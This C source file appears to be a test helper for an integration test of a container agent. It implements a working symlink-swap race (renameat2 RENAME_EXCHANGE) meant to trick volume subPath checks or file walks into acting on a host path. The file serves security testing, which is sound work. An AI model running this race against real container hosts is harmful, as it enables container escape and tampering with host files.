// SPDX-License-Identifier: Apache-2.0
/* The attacker of tests/integration/test_escapes_volumes.py: a static
 * program put into a unit's image, racing the agent over a volume the
 * unit shares with its siblings.
 *
 *   escape_racer exchange DIR NAME TARGET
 *       makes DIR/NAME a directory and DIR/NAME.evil a link to TARGET
 *       (a host path), then swaps the two names without pause
 *       (renameat2 RENAME_EXCHANGE): a subPath NAME is a directory when
 *       checked and, with luck, the host's when used.
 *   escape_racer links DIR COUNT TARGET
 *       makes COUNT regular files in DIR and as many links to TARGET,
 *       then swaps each file with its link without pause: a walk that
 *       checks a file and then changes it by name changes TARGET.
 *
 * It prints "racing" once set up and runs until killed. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int exchange(int dir, const char *a, const char *b)
{
	return (int)syscall(SYS_renameat2, dir, a, dir, b, RENAME_EXCHANGE);
}

static int race_exchange(int dir, const char *name, const char *target)
{
	char evil[256];

	snprintf(evil, sizeof(evil), "%s.evil", name);
	mkdirat(dir, name, 0777);
	unlinkat(dir, evil, 0);
	if (symlinkat(target, dir, evil) < 0) {
		perror("symlink");
		return 1;
	}
	printf("racing\n");
	fflush(stdout);
	for (;;)
		exchange(dir, name, evil);
}

static int race_links(int dir, int count, const char *target)
{
	char f[64], l[64];

	for (int i = 0; i < count; i++) {
		snprintf(f, sizeof(f), "f%d", i);
		snprintf(l, sizeof(l), "f%d.l", i);
		close(openat(dir, f, O_CREAT | O_WRONLY, 0600));
		unlinkat(dir, l, 0);
		if (symlinkat(target, dir, l) < 0) {
			perror("symlink");
			return 1;
		}
	}
	printf("racing\n");
	fflush(stdout);
	for (;;)
		for (int i = 0; i < count; i++) {
			snprintf(f, sizeof(f), "f%d", i);
			snprintf(l, sizeof(l), "f%d.l", i);
			exchange(dir, f, l);
		}
}

int main(int argc, char **argv)
{
	int dir;

	if (argc != 5) {
		fprintf(stderr,
			"usage: %s exchange|links DIR NAME|COUNT "
			"TARGET\n",
			argv[0]);
		return 2;
	}
	dir = open(argv[2], O_RDONLY | O_DIRECTORY);
	if (dir < 0) {
		perror(argv[2]);
		return 1;
	}
	if (argv[1][0] == 'e')
		return race_exchange(dir, argv[3], argv[4]);
	return race_links(dir, (int)strtol(argv[3], NULL, 10), argv[4]);
}
